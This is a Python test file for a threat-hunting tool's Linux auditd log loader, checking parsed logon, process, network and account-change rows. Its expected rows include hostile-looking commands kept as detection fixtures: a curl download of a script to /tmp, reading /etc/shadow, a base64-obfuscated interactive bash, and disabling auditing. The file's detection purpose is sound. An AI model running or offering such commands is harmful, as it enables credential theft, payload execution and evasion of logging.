"""Linux's audit log: logons, acting as another, processes, connections, changes."""

import doctest
from collections import Counter

import pytest

from graph_hunt.events.source import Options
from graph_hunt.loaders import auditd
from graph_hunt.loaders.auditd import record
from tests.paths import DATA, SAMPLES, SHARED
from tests.sources import Content, Reading, read

SHARED_ONLY = pytest.mark.skipif(not SHARED.exists(), reason="no shared telemetry here")


def sample(name: str, options: Options | None = None) -> Reading:
    return read(auditd.LOADER, Content((SAMPLES / "auditd" / name).read_bytes(), name), options)


def test_the_examples_hold() -> None:
    assert doctest.testmod(record).failed == 0


def test_logons_and_acting_as_another() -> None:
    columns = ("record", "code", "kind", "outcome", "reason", "user", "target_user", "source_ip", "target_host")
    assert sample("audit.log").rows("authentication", *columns) == [
        (5, "Auditd/USER_LOGIN", "logon", "success", None, "ann", None, "198.51.100.7", "web1"),
        (6, "Auditd/USER_LOGIN", "logon", "failure", "unknown_user", None, None, "203.0.113.9", "web1"),
        (14, "Auditd/USER_CMD", "explicit", "success", None, "ann", None, None, "web1"),
        (15, "Auditd/USER_AUTH", "explicit", "failure", "bad_password", "ann", "root", None, "web1"),
        (16, "Auditd/USER_START", "explicit", "success", None, "ann", "root", None, "web1"),
        (21, "Auditd/USER_END", "logoff", "success", None, "ann", None, "198.51.100.7", "web1"),
    ]


def test_a_system_call_is_one_event_of_several_records() -> None:
    found = sample("audit.log")
    columns = ("record", "user", "pid", "parent_pid", "image", "command_line", "current_directory", "logon_id")
    assert found.rows("process", *columns) == [
        (7, "ann", 911, 910, "/usr/bin/curl", "curl -o /tmp/a b.sh https://bulk.example/a b.sh", "/home/ann", "5"),
        (14, None, None, 920, "cat", "cat /etc/shadow", "/home/ann", "5"),
    ]
    assert found.rows("process", "raw")[0][0].count("\n") == 3  # type: ignore[attr-defined]
    columns = ("record", "user", "target_ip", "target_port", "process", "outcome", "direction")
    assert found.rows("network", *columns) == [
        (10, "ann", "203.0.113.9", 443, "/usr/bin/curl", "success", "outbound"),
    ]


def test_changes() -> None:
    columns = ("code", "object_kind", "operation", "user", "object", "target_user", "value")
    assert sample("audit.log").rows("change", *columns) == [
        ("Auditd/ADD_USER", "account", "created", "ann", "svc", "svc", None),
        ("Auditd/USER_MGMT", "group", "member_added", "ann", "wheel", "svc", None),
        ("Auditd/USER_CHAUTHTOK", "account", "password_reset", "ann", "svc", "svc", None),
        ("Auditd/CONFIG_CHANGE", "policy", "changed", "ann", "audit audit_enabled", None, "0"),
    ]


def test_records_of_one_event_may_mingle_with_another_and_lack_an_end() -> None:
    lines = (
        'type=SYSCALL msg=audit(1717408800.100:1): syscall=59 success=yes pid=1 ppid=0 uid=0 euid=0 exe="/bin/a"',
        'type=SYSCALL msg=audit(1717408800.100:2): syscall=59 success=yes pid=2 ppid=0 uid=33 euid=33 exe="/bin/b"',
        'type=EXECVE msg=audit(1717408800.100:1): argc=1 a0="a"',
        'type=EXECVE msg=audit(1717408800.100:2): argc=2 a0="b" a1=4142',
    )
    found = read(auditd.LOADER, Content("\n".join(lines).encode()), Options(extra={"host": "web9"}))
    assert found.rows("process", "host", "user", "pid", "command_line") == [
        ("web9", "root", 1, "a"),
        ("web9", "uid 33", 2, "b 4142"),
    ]
    assert (found.records, found.used) == (4, 2)


def test_other_carriers_of_the_same_records() -> None:
    assert sample("audisp_syslog.log").rows("authentication", "user", "outcome", "target_host") == [
        ("ann", "success", "web1"),
        (None, "failure", "web1"),
    ]
    found = sample("auoms.jsonl")
    assert found.rows("process", "host", "user", "image", "command_line") == [
        ("web2", "tomcat", "/bin/bash", 'bash -c "{echo,aWQ=}|{base64,-d}|{bash,-i}"'),
    ]
    assert found.unused == {"Auditd/AUOMS_EXECVE": 1}


def test_bad_lines_are_kept_aside() -> None:
    assert [(bad.record, bad.reason) for bad in sample("audit.log").quarantined] == [(23, "not an audit record")]


@pytest.mark.parametrize(
    "content", [b"", b"type=a\n", b"Jun  3 10:00:00 web1 sshd[1]: x\n", b'{"SyslogMessage": "x"}\n']
)
def test_other_content_is_not_claimed(content: bytes) -> None:
    assert not auditd.LOADER.claims(Content(content))


@SHARED_ONLY
@pytest.mark.parametrize(
    ("name", "records", "codes"),
    [
        (
            "msticpy/auditd_log.txt",
            1708,
            {"Auditd/USER_LOGIN": 191, "Auditd/USER_CMD": 34, "Auditd/EXECVE": 146},
        ),
        (
            "plaso/audit_enriched.log",
            29,
            {
                "Auditd/DEL_USER": 1,
                "Auditd/ADD_USER": 1,
                "Auditd/USER_CMD": 2,
                "Auditd/USER_AUTH": 1,
                "Auditd/EXECVE": 3,
            },
        ),
    ],
)
def test_real_logs_load_whole(name: str, records: int, codes: dict[str, int]) -> None:
    found = read(auditd.LOADER, Content((DATA / name).read_bytes()))
    assert (found.records, len(found.quarantined)) == (records, 0)
    assert Counter(code for table in found.tables for (code,) in found.rows(table, "code")) == codes
